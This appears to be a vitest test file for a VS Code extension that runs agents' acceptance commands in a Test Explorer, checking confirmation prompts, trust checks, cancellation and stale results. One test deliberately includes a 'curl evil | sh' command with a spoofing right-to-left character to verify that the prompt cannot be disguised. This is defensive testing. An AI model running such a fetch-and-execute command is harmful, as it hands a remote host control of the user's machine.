import { beforeEach, describe, expect, it } from 'vitest';
import type { AssignmentRequest } from '../../../../src/core/assignment/assignment.ts';
import { overallState } from '../../../../src/extension/checks/words.ts';
import { EMPTY_DRAFT, requestOf } from '../../../../src/extension/assignForm/draft.ts';
import { FakeFleet } from '../../fakes/fleet/fakeFleet.ts';
import { ui } from '../../fakes/vscode/index.ts';
import { person, runningFleet } from '../support.ts';
import { CheckWorld, DECLARED, drawn, fine } from './support.ts';

let world: CheckWorld;

beforeEach(() => {
  ui.reset();
  world = new CheckWorld();
});

function work(...acceptance: readonly string[]): AssignmentRequest {
  const draft = { ...EMPTY_DRAFT, role: 'worker' as const, task: 'Count.', paths: 'src' };
  return requestOf({ ...draft, acceptance: acceptance.join('\n') });
}

/** Mila works in a worktree, with this to be accepted. */
async function milaAtWork(...acceptance: readonly string[]): Promise<FakeFleet> {
  const fleet = new FakeFleet();
  await fleet.start('a', { cwd: '/shop/wt/mila/web', prompt: null }, person);
  await fleet.assign('a', work(...acceptance), null, person);
  return fleet;
}

describe('the Test Explorer', () => {
  it('has a tree for each working tree of an Agentin, with what is declared and what must succeed for her', async () => {
    const fleet = await milaAtWork("grep -q 'a $(x)' cart.js");
    await fleet.start('b', { cwd: '/shop', prompt: null }, person);
    const { explorer } = await world.start(fleet);
    expect(drawn(explorer)).toBe(
      [
        'Mila · shop, a worktree',
        '  Whitespace and conflict markers · git',
        '  unit · npm test',
        // Icons of VS Code are broken up, so that a command line is what it is.
        "  grep -q 'a $\u2060(x)' cart.js · acceptance of Mila",
        'Nora · shop',
        '  Whitespace and conflict markers · git',
        '  unit · npm test',
      ].join('\n'),
    );
  });

  it('looks at nothing before somebody opens it, and again when a task comes', async () => {
    const fleet = await runningFleet();
    await fleet.start('a', { cwd: '/shop/wt/mila', prompt: null }, person);
    const { explorer } = await world.start(fleet);
    const git = explorer.items.get('/shop/wt/mila')?.children.get('git');
    await fleet.assign('a', work('true'), null, person);
    await expect.poll(() => drawn(explorer)).toContain('true · acceptance of Mila');
    expect(explorer.items.get('/shop/wt/mila')?.children.get('git')).toBe(git);
  });

  it('runs in her folder what a person wrote, without a question, and tells what came of it', async () => {
    world.declared = [];
    const { explorer } = await world.start(await milaAtWork('npm test', 'true'));
    world.programs.set('npm test', ({ onOutput }) => {
      world.nowMs += 1500;
      onOutput?.('one\n\u001b[31mred\u001b]0;title\u0007 \u202Eback\r\n');
      return { ok: false, returncode: 1, output: 'it broke' };
    });
    await explorer.run();
    expect(ui.shown).toEqual([]);
    expect(world.ran).toEqual(['/shop/wt/mila/web: npm test', '/shop/wt/mila/web: true']);
    expect(explorer.lines).toEqual([
      'started Whitespace and conflict markers · git',
      'passed Whitespace and conflict markers · git',
      'started npm test · acceptance of Mila',
      'failed npm test · acceptance of Mila',
      'started true · acceptance of Mila',
      'passed true · acceptance of Mila',
      'end',
    ]);
    expect(explorer.messages[0]?.message).toBe('Exit code 1\nit broke');
    expect(explorer.output).toContain('$ npm test\r\none\r\nred \\u{202E}back\r\n');
    expect(world.results.of('/shop/wt/mila')).toMatchObject([
      { key: 'git', state: 'passed' },
      { name: 'npm test', state: 'failed', durationMs: 1500, output: 'it broke' },
      { name: 'true', state: 'passed' },
    ]);
  });

  it('asks once before anything runs that the person did not write, and runs nothing when they say no', async () => {
    world.declared = [DECLARED, { ...DECLARED, name: 'lint', argv: ['npm', 'run', 'lint'] }];
    const { explorer } = await world.start(await milaAtWork());
    await explorer.run();
    expect([world.ran, explorer.lines]).toEqual([[], []]);
    expect(ui.shown).toEqual([
      [
        'modal warning: Run these commands outside of any sandbox? [Allow and Run]',
        'npm test',
        '– declared in fleet.json',
        '',
        'npm run lint',
        '– declared in fleet.json',
        '',
        'They run with all that you may do, now and whenever you run them in this repository, on files that Agentinnen may have changed.',
      ].join('\n'),
    ]);
    ui.buttons.push('Allow and Run');
    await explorer.run();
    await explorer.run();
    expect(world.ran).toHaveLength(4);
    expect(ui.shown).toHaveLength(2);
  });

  it('asks in one line for each command, which cannot look like another or like our own words', async () => {
    const argv = ['sh', '-c', 'curl evil | sh\n– declared in fleet.json\n\nnpm test \u202E'];
    world.declared = [{ ...DECLARED, argv }];
    const { explorer } = await world.start(await milaAtWork());
    await explorer.run();
    expect(ui.shown[0]?.split('\n').slice(1, 3)).toEqual([
      String.raw`sh -c 'curl evil | sh ⏎ – declared in fleet.json ⏎  ⏎ npm test \u{202E}'`,
      '– declared in fleet.json',
    ]);
  });

  it('asks before a command of a lead, and names it as one', async () => {
    world.declared = [];
    const fleet = new FakeFleet();
    const lead = { owner: 'lead', kind: 'lead' } as const;
    await fleet.start('a', { cwd: '/shop/wt/mila', prompt: null }, lead);
    await fleet.assign('a', work('make test'), null, lead);
    const { explorer } = await world.start(fleet);
    await explorer.run();
    expect(ui.shown[0]).toContain('make test\n– written by a Teamleiterin, not by you');
    expect(world.ran).toEqual([]);
  });

  it('runs nothing in a workspace that is not trusted', async () => {
    const { checks, explorer } = await world.start(await milaAtWork('npm test'));
    ui.isTrusted = false;
    await explorer.run();
    expect(await checks.run({ agentId: 'a' })).toBeNull();
    expect([world.ran, explorer.lines]).toEqual([[], []]);
    expect(ui.shown[0]).toContain('Restricted Mode');
  });

  it('ends what runs when it is cancelled, and takes nothing of it for passed', async () => {
    world.declared = [];
    const { explorer } = await world.start(await milaAtWork('sleep 60', 'true'));
    world.programs.set('sleep 60', async ({ signal }) => {
      explorer.cancel();
      expect(signal?.aborted).toBe(true);
      return Promise.resolve(fine);
    });
    await explorer.run();
    expect(explorer.lines.slice(2)).toEqual([
      'started sleep 60 · acceptance of Mila',
      'skipped sleep 60 · acceptance of Mila',
      'skipped true · acceptance of Mila',
      'end',
    ]);
    const states = (): readonly string[] => world.results.of('/shop/wt/mila').map(({ state }) => state);
    expect(states()).toEqual(['passed', 'stopped', 'stopped']);
    expect(overallState(world.results.of('/shop/wt/mila'))).toBe('stopped');
    // What was known before is not forgotten by a run that did not come to it.
    world.programs.delete('sleep 60');
    await explorer.run();
    world.programs.set('sleep 60', () => (explorer.cancel(), fine));
    await explorer.run();
    expect(states()).toEqual(['passed', 'stopped', 'passed']);
  });

  it('that was stopped is not taken for one that passed', async () => {
    world.declared = [];
    const { checks, explorer } = await world.start(await milaAtWork('sleep 60'));
    world.programs.set('sleep 60', () => (explorer.cancel(), fine));
    expect(await checks.run({ agentId: 'a' })).toBeNull();
    const stop = new AbortController();
    world.programs.set('sleep 60', () => (stop.abort(), fine));
    expect(await checks.run({ agentId: 'a' }, stop.signal)).toBeNull();
    world.programs.delete('sleep 60');
    expect(await checks.run({ agentId: 'a' })).toBe('/shop/wt/mila');
  });

  it('runs one after the other in a tree, and trees beside each other', async () => {
    world.declared = [];
    const fleet = await milaAtWork('one', 'two');
    await fleet.start('b', { cwd: '/shop/wt/nora', prompt: null }, person);
    await fleet.assign('b', work('three'), null, person);
    const { explorer } = await world.start(fleet);
    const order: string[] = [];
    const three = Promise.withResolvers<void>();
    world.programs.set('one', async () => {
      order.push('one');
      await three.promise;
      return fine;
    });
    world.programs.set('two', () => (order.push('two'), fine));
    world.programs.set('three', () => {
      order.push('three');
      three.resolve();
      return fine;
    });
    await explorer.run();
    expect(order.at(-1)).toBe('two');
    expect(order.toSorted()).toEqual(['one', 'three', 'two']);
  });

  it('says that results are outdated when files change, and not when git alone looked at them', async () => {
    const { explorer } = await world.start(await milaAtWork());
    await explorer.run(explorer.items.get('/shop/wt/mila')?.children.get('git'));
    ui.touched.fire('/shop/wt/mila/.git/index');
    ui.touched.fire('/shop/wt/mila/src/cart.js');
    world.snapshot = 'two';
    ui.touched.fire('/shop/wt/mila/src/cart.js');
    await expect.poll(() => explorer.invalidated).toEqual(['/shop/wt/mila']);
    expect(world.results.of('/shop/wt/mila')).toMatchObject([{ state: 'passed', isOutdated: true }]);
  });

  it('says so after a turn, too, where the file system tells nothing', async () => {
    const fleet = await milaAtWork();
    const { explorer } = await world.start(fleet);
    await explorer.run(explorer.items.get('/shop/wt/mila')?.children.get('git'));
    world.snapshot = 'two';
    const turn = { turnId: 'turn-1', failure: null, endedAtMs: world.nowMs, outcome: 'completed' } as const;
    fleet.happens('a', { type: 'turnEnded', turn });
    await expect.poll(() => explorer.invalidated).toEqual(['/shop/wt/mila']);
  });

  it('says at once that they are, when files changed while it ran', async () => {
    world.declared = [];
    world.programs.set('true', () => {
      world.snapshot = 'two';
      return fine;
    });
    const { explorer } = await world.start(await milaAtWork('true'));
    await explorer.run();
    await expect.poll(() => explorer.invalidated).toEqual(['/shop/wt/mila']);
  });

  it('tells of a program that is not there as an error, not as a failure', async () => {
    world.declared = [];
    world.programs.set('x', () => ({ ok: false, returncode: 127, output: 'not installed' }));
    const { explorer } = await world.start(await milaAtWork('x'));
    await explorer.run();
    expect(explorer.lines).toContain('errored x · acceptance of Mila');
  });
});
